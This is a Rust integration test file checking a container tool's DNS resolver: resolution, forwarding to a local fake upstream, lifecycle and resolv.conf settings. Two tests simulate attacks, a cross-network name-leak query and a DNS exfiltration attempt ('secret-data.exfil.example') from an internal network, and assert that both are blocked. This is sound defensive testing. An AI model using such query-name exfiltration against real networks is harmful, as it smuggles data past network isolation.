//! Name resolution through DNS, as root: the resolver on each network's gateway answers
//! containers' names and aliases (from the host with `dig`, from inside with busybox's
//! `nslookup`), says NXDOMAIN for unknown names, forwards other names to the upstream these
//! tests run on 127.0.0.1 (never an outside address), refuses to forward from an internal
//! network, keeps answering while no agent runs, follows containers coming and going, and
//! exits with the last network. `dns`, `dns_search`, `dns_options` and `extra_hosts` end up
//! in the container's resolv.conf and hosts file.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, UdpSocket};
use std::process::Command;
use std::sync::atomic::{AtomicBool, AtomicU8, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use hickory_proto::op::Message;
use hickory_proto::rr::rdata::A;
use hickory_proto::rr::{RData, Record};

use crate::agent::{Agent, wait_for};
use crate::support::images::ready_made::busybox_image;
use crate::support::sandbox::Sandbox;

/// The address every name has at the test upstream.
const UPSTREAM_ANSWER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 7);

/// A /24 no other test of this run uses, and its gateway: 10.221.N.0/24, 10.221.N.1.
fn subnet() -> (String, String) {
    static NEXT: AtomicU8 = AtomicU8::new(1);
    let n = NEXT.fetch_add(1, Ordering::Relaxed);
    (format!("10.221.{n}.0/24"), format!("10.221.{n}.1"))
}

fn sleeper(name: &str, image: &str, extra: &str) -> String {
    format!(
        "[container.{name}]\nimage = \"{image}\"\ncommand = [\"sleep\", \"3600\"]\nstop_timeout = \"1s\"\n{extra}\n"
    )
}

/// A DNS server on 127.0.0.1 answering every A query with `UPSTREAM_ANSWER`, and the names
/// it was asked.
struct Upstream {
    port: u16,
    asked: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
}

impl Upstream {
    fn start() -> Upstream {
        let socket = UdpSocket::bind("127.0.0.1:0").expect("bind the upstream");
        socket
            .set_read_timeout(Some(Duration::from_millis(100)))
            .expect("timeout");
        let port = socket.local_addr().expect("addr").port();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (log, halt) = (asked.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while !halt.load(Ordering::Relaxed) {
                let Ok((n, from)) = socket.recv_from(&mut buf) else {
                    continue;
                };
                let Ok(query) = Message::from_vec(&buf[..n]) else {
                    continue;
                };
                let reply = answer(&query, &log);
                let _ = socket.send_to(&reply.to_vec().expect("encode"), from);
            }
        });
        let tcp = std::net::TcpListener::bind(("127.0.0.1", port)).expect("bind the TCP upstream");
        tcp.set_nonblocking(true).expect("nonblocking");
        let (log, halt) = (asked.clone(), stop.clone());
        std::thread::spawn(move || {
            while !halt.load(Ordering::Relaxed) {
                let Ok((mut stream, _)) = tcp.accept() else {
                    std::thread::sleep(Duration::from_millis(20));
                    continue;
                };
                let _ = stream.set_nonblocking(false);
                let mut len = [0u8; 2];
                if stream.read_exact(&mut len).is_err() {
                    continue;
                }
                let mut buf = vec![0u8; usize::from(u16::from_be_bytes(len))];
                if stream.read_exact(&mut buf).is_err() {
                    continue;
                }
                let Ok(query) = Message::from_vec(&buf) else {
                    continue;
                };
                let reply = answer(&query, &log).to_vec().expect("encode");
                let len = u16::try_from(reply.len()).expect("small").to_be_bytes();
                let _ = stream.write_all(&[&len[..], &reply].concat());
            }
        });
        Upstream { port, asked, stop }
    }

    fn env(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }

    fn was_asked(&self, name: &str) -> bool {
        self.asked
            .lock()
            .expect("log")
            .iter()
            .any(|n| n.trim_end_matches('.') == name)
    }
}

/// The upstream's answer: `UPSTREAM_ANSWER` for every name, each name logged.
fn answer(query: &Message, log: &Mutex<Vec<String>>) -> Message {
    let mut reply = Message::response(query.metadata.id, query.metadata.op_code);
    reply.metadata.recursion_available = true;
    reply.add_queries(query.queries.iter().cloned());
    for q in &query.queries {
        log.lock().expect("log").push(q.name().to_ascii());
        reply.add_answer(Record::from_rdata(
            q.name().clone(),
            60,
            RData::A(A(UPSTREAM_ANSWER)),
        ));
    }
    reply
}

impl Drop for Upstream {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

fn apply(sb: &Sandbox, upstream: &Upstream) {
    let desired = sb.desired();
    let out = sb
        .command(&[
            "apply",
            desired.to_str().expect("utf-8"),
            "--wait",
            "--timeout",
            "60s",
        ])
        .env("BERTH_DNS_UPSTREAMS", upstream.env())
        .output()
        .expect("run berth");
    assert!(
        out.status.success(),
        "apply failed:\n{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// `dig @SERVER NAME` with `extra` options: its whole output.
fn dig(server: &str, name: &str, extra: &[&str]) -> String {
    let out = Command::new("dig")
        .arg(format!("@{server}"))
        .args(["+time=2", "+tries=1"])
        .args(extra)
        .arg(name)
        .output()
        .expect("dig (Debian package dnsutils)");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The answers `dig +short` prints (its `;;` remarks, such as a refused connection, left
/// out).
fn lookup(server: &str, name: &str, extra: &[&str]) -> Vec<String> {
    let mut args = vec!["+short"];
    args.extend_from_slice(extra);
    dig(server, name, &args)
        .lines()
        .map(|l| l.trim().to_string())
        .filter(|l| !l.is_empty() && !l.starts_with(';'))
        .collect()
}

fn exec(sb: &Sandbox, name: &str, args: &[&str]) -> (bool, String) {
    let mut full = vec!["exec", name, "--"];
    full.extend_from_slice(args);
    let out = sb.berth(&full);
    (
        out.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

fn address_of(sb: &Sandbox, name: &str) -> String {
    let (ok, out) = exec(sb, name, &["ip", "-4", "-o", "addr", "show", "eth0"]);
    assert!(ok, "ip addr in {name}: {out}");
    out.split_whitespace()
        .skip_while(|w| *w != "inet")
        .nth(1)
        .and_then(|cidr| cidr.split('/').next())
        .map(str::to_string)
        .unwrap_or_else(|| panic!("no address on eth0 of {name}: {out}"))
}

fn resolver_running(sb: &Sandbox) -> bool {
    let lock = sb.root().join("networks/.dns.lock");
    let Ok(file) = std::fs::OpenOptions::new().write(true).open(lock) else {
        return false;
    };
    match rustix::fs::flock(&file, rustix::fs::FlockOperation::NonBlockingLockExclusive) {
        Ok(()) => false,
        Err(rustix::io::Errno::WOULDBLOCK) => true,
        Err(e) => panic!("probing the resolver's lock: {e}"),
    }
}

/// The resolver of this sandbox's state root: `berth --root ROOT dns-resolver`.
fn resolver_pid(sb: &Sandbox) -> Option<i32> {
    let want = format!("--root\0{}\0dns-resolver\0", sb.root().display());
    std::fs::read_dir("/proc").ok()?.flatten().find_map(|e| {
        let pid: i32 = e.file_name().to_str()?.parse().ok()?;
        let cmdline = std::fs::read(e.path().join("cmdline")).ok()?;
        String::from_utf8_lossy(&cmdline)
            .contains(&want)
            .then_some(pid)
    })
}

#[test]
fn names_resolve_from_the_host_and_inside_and_others_are_forwarded() {
    let sb = Sandbox::new();
    let image = sb.image("busybox", &busybox_image());
    let upstream = Upstream::start();
    let (front, gw) = subnet();
    let (other, _) = subnet();
    sb.write(
        "net.toml",
        &format!(
            "[network.front]\nsubnet = \"{front}\"\n\n[network.other]\nsubnet = \"{other}\"\n\n{}{}{}",
            sleeper(
                "web",
                &image,
                "networks = [{ name = \"front\", aliases = [\"www\"] }]"
            ),
            sleeper("client", &image, "networks = [\"front\"]"),
            sleeper("outsider", &image, "networks = [\"other\"]"),
        ),
    );
    apply(&sb, &upstream);
    let web = address_of(&sb, "web");
    // Started by a monitor, it is not in the monitor's mount namespace (it would keep the
    // container's mounts alive after the container is gone).
    let pid = resolver_pid(&sb).expect("the resolver's process");
    assert_eq!(
        std::fs::read_link(format!("/proc/{pid}/ns/mnt")).expect("its mount namespace"),
        std::fs::read_link("/proc/self/ns/mnt").expect("ours"),
    );
    // It keeps only CAP_NET_BIND_SERVICE (bit 10), can regain nothing, and still serves
    // (all that follows).
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("its status");
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .map(str::trim)
            .unwrap_or_else(|| panic!("no {name} in {status}"))
    };
    for set in ["CapEff:", "CapPrm:", "CapBnd:"] {
        assert_eq!(field(set), "0000000000000400", "{set}\n{status}");
    }
    for set in ["CapInh:", "CapAmb:"] {
        assert_eq!(field(set), "0000000000000000", "{set}\n{status}");
    }
    assert_eq!(field("NoNewPrivs:"), "1", "{status}");

    // From the host, over UDP and TCP; names and aliases, any case.
    assert_eq!(lookup(&gw, "web", &[]), std::slice::from_ref(&web));
    assert_eq!(lookup(&gw, "WWW", &[]), std::slice::from_ref(&web));
    assert_eq!(lookup(&gw, "web", &["+tcp"]), std::slice::from_ref(&web));
    // An unknown name of ours: NXDOMAIN, authoritatively, and never asked upstream.
    let nx = dig(&gw, "nosuch", &[]);
    assert!(nx.contains("status: NXDOMAIN"), "{nx}");
    assert!(nx.contains(" aa "), "not authoritative: {nx}");
    assert!(!upstream.was_asked("nosuch"));
    // A name that exists, asked for a type it has none of: NOERROR without answers.
    let nodata = dig(&gw, "web", &["AAAA"]);
    assert!(nodata.contains("status: NOERROR"), "{nodata}");
    assert!(nodata.contains("ANSWER: 0"), "{nodata}");
    // Reverse: the container's address names it.
    assert_eq!(lookup(&gw, &web, &["-x"]), ["web."]);
    // Everything else goes to the upstream.
    assert_eq!(
        lookup(&gw, "forwarded.example", &[]),
        [UPSTREAM_ANSWER.to_string()]
    );
    assert!(upstream.was_asked("forwarded.example"));
    assert_eq!(
        lookup(&gw, "tcp-forwarded.example", &["+tcp"]),
        [UPSTREAM_ANSWER.to_string()]
    );

    // Inside: resolv.conf names the resolver first, and busybox's resolver uses it.
    let (ok, resolv) = exec(&sb, "client", &["cat", "/etc/resolv.conf"]);
    assert!(ok, "{resolv}");
    let first = resolv
        .lines()
        .find(|l| l.starts_with("nameserver"))
        .unwrap_or_default();
    assert_eq!(first, format!("nameserver {gw}"), "{resolv}");
    let (ok, out) = exec(&sb, "client", &["busybox", "nslookup", "www", &gw]);
    assert!(ok && out.contains(&web), "nslookup www: {out}");
    let (ok, out) = exec(&sb, "client", &["busybox", "nslookup", "inside.example"]);
    assert!(
        ok && out.contains(&UPSTREAM_ANSWER.to_string()),
        "nslookup inside.example: {out}"
    );
    let (ok, out) = exec(&sb, "client", &["busybox", "nslookup", "nosuch"]);
    assert!(!ok || out.contains("NXDOMAIN"), "nslookup nosuch: {out}");

    // The attack: a container of another network asks this network's resolver (its gateway
    // is a host address, reachable from there) for its names, and to forward.
    let (_, out) = exec(&sb, "outsider", &["busybox", "nslookup", "web", &gw]);
    assert!(!out.contains(&web), "another network's name leaked: {out}");
    let (_, out) = exec(
        &sb,
        "outsider",
        &["busybox", "nslookup", "via-front.example", &gw],
    );
    assert!(
        !out.contains(&UPSTREAM_ANSWER.to_string()),
        "forwarded for another network: {out}"
    );
    assert!(!upstream.was_asked("via-front.example"));
}

#[test]
fn an_internal_network_gets_names_but_no_forwarding() {
    let sb = Sandbox::new();
    let image = sb.image("busybox", &busybox_image());
    let upstream = Upstream::start();
    let (back, gw) = subnet();
    sb.write(
        "net.toml",
        &format!(
            "[network.back]\nsubnet = \"{back}\"\ninternal = true\n\n{}{}",
            sleeper("db", &image, "networks = [\"back\"]"),
            sleeper("app", &image, "networks = [\"back\"]"),
        ),
    );
    apply(&sb, &upstream);
    let db = address_of(&sb, "db");
    let (ok, out) = exec(&sb, "app", &["busybox", "nslookup", "db", &gw]);
    assert!(ok && out.contains(&db), "nslookup db: {out}");
    // The attack: data carried out in a query name, from a network with no way out.
    let (_, out) = exec(
        &sb,
        "app",
        &["busybox", "nslookup", "secret-data.exfil.example", &gw],
    );
    assert!(
        !out.contains(&UPSTREAM_ANSWER.to_string()),
        "forwarded from an internal network: {out}"
    );
    let refused = dig(&gw, "secret-data-2.exfil.example", &[]);
    assert!(refused.contains("status: REFUSED"), "{refused}");
    std::thread::sleep(Duration::from_millis(200));
    assert!(!upstream.was_asked("secret-data.exfil.example"));
    assert!(!upstream.was_asked("secret-data-2.exfil.example"));
}

#[test]
fn the_resolver_outlives_the_agent_follows_changes_and_leaves_with_the_last_network() {
    let sb = Sandbox::new();
    let image = sb.image("busybox", &busybox_image());
    let upstream = Upstream::start();
    let (front, gw) = subnet();
    let network = format!("[network.front]\nsubnet = \"{front}\"\n\n");
    let web = sleeper("web", &image, "networks = [\"front\"]");
    sb.write("net.toml", &format!("{network}{web}"));
    let dir = sb.desired();
    let env = upstream.env();
    let agent = Agent::start_with_env(&sb, &dir, &[("BERTH_DNS_UPSTREAMS", &env)]);
    let web_ip = wait_for(Duration::from_secs(60), "web in DNS", || {
        lookup(&gw, "web", &[]).first().cloned()
    });

    // A container added: its name appears; removed: it goes.
    let db = sleeper(
        "db",
        &image,
        "networks = [{ name = \"front\", aliases = [\"postgres\"] }]",
    );
    sb.write("net.toml", &format!("{network}{web}{db}"));
    wait_for(Duration::from_secs(60), "postgres in DNS", || {
        lookup(&gw, "postgres", &[]).first().cloned()
    });
    sb.write("net.toml", &format!("{network}{web}"));
    wait_for(Duration::from_secs(60), "db gone from DNS", || {
        dig(&gw, "db", &[])
            .contains("status: NXDOMAIN")
            .then_some(())
    });

    // No agent: the containers run on, and so does their resolver.
    assert!(agent.terminate().success());
    for _ in 0..10 {
        assert_eq!(lookup(&gw, "web", &[]), std::slice::from_ref(&web_ip));
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(
        lookup(&gw, "after-the-agent.example", &[]),
        [UPSTREAM_ANSWER.to_string()]
    );

    // Killed, it comes back with the next pass (`repair network rules`).
    let pid = resolver_pid(&sb).expect("the resolver's process");
    let pid = rustix::process::Pid::from_raw(pid).expect("pid");
    rustix::process::kill_process(pid, rustix::process::Signal::KILL).expect("kill");
    wait_for(Duration::from_secs(5), "the resolver gone", || {
        (!resolver_running(&sb)).then_some(())
    });
    apply(&sb, &upstream);
    assert!(resolver_running(&sb), "apply did not restart the resolver");
    assert_eq!(lookup(&gw, "web", &[]), [web_ip]);

    // The last network removed: the resolver exits.
    sb.write("net.toml", "");
    let out = sb.berth(&[
        "apply",
        dir.to_str().expect("utf-8"),
        "--allow-empty",
        "--wait",
        "--timeout",
        "60s",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    wait_for(Duration::from_secs(10), "the resolver gone", || {
        (!resolver_running(&sb)).then_some(())
    });
}

#[test]
fn dns_settings_and_extra_hosts_are_in_the_containers_files() {
    let sb = Sandbox::new();
    let image = sb.image("busybox", &busybox_image());
    let upstream = Upstream::start();
    let (front, gw) = subnet();
    sb.write(
        "net.toml",
        &format!(
            "[network.front]\nsubnet = \"{front}\"\n\n{}{}",
            sleeper(
                "own",
                &image,
                "networks = [\"front\"]\ndns = [\"192.0.2.53\", \"fd00::53\"]\ndns_search = [\"example.com\", \"corp.example\"]\ndns_options = [\"ndots:2\", \"edns0\"]\nextra_hosts = [\"db.local:10.0.0.5\", \"v6.local:fd00::5\"]"
            ),
            sleeper(
                "mapped",
                &image,
                "networks = [\"front\"]\ndns_search = [\"example.org\"]\nextra_hosts = { \"cache.local\" = \"10.0.0.6\" }"
            ),
        ),
    );
    apply(&sb, &upstream);

    let (ok, resolv) = exec(&sb, "own", &["cat", "/etc/resolv.conf"]);
    assert!(ok, "{resolv}");
    let servers: Vec<&str> = resolv
        .lines()
        .filter(|l| l.starts_with("nameserver"))
        .collect();
    // Its own servers replace the resolver.
    assert_eq!(servers, ["nameserver 192.0.2.53", "nameserver fd00::53"]);
    assert!(
        resolv.contains("search example.com corp.example\n"),
        "{resolv}"
    );
    assert!(resolv.contains("options ndots:2 edns0\n"), "{resolv}");
    let (ok, hosts) = exec(&sb, "own", &["cat", "/etc/hosts"]);
    assert!(ok, "{hosts}");
    assert!(hosts.contains("10.0.0.5\tdb.local\n"), "{hosts}");
    assert!(hosts.contains("fd00::5\tv6.local\n"), "{hosts}");
    // Peers stay in the hosts file beside the extra entries (rewritten when `mapped` came).
    assert!(hosts.contains("\tmapped\n"), "{hosts}");

    let (ok, resolv) = exec(&sb, "mapped", &["cat", "/etc/resolv.conf"]);
    assert!(ok, "{resolv}");
    assert!(resolv.contains(&format!("nameserver {gw}\n")), "{resolv}");
    assert!(resolv.contains("search example.org\n"), "{resolv}");
    let (ok, hosts) = exec(&sb, "mapped", &["cat", "/etc/hosts"]);
    assert!(ok && hosts.contains("10.0.0.6\tcache.local\n"), "{hosts}");
}
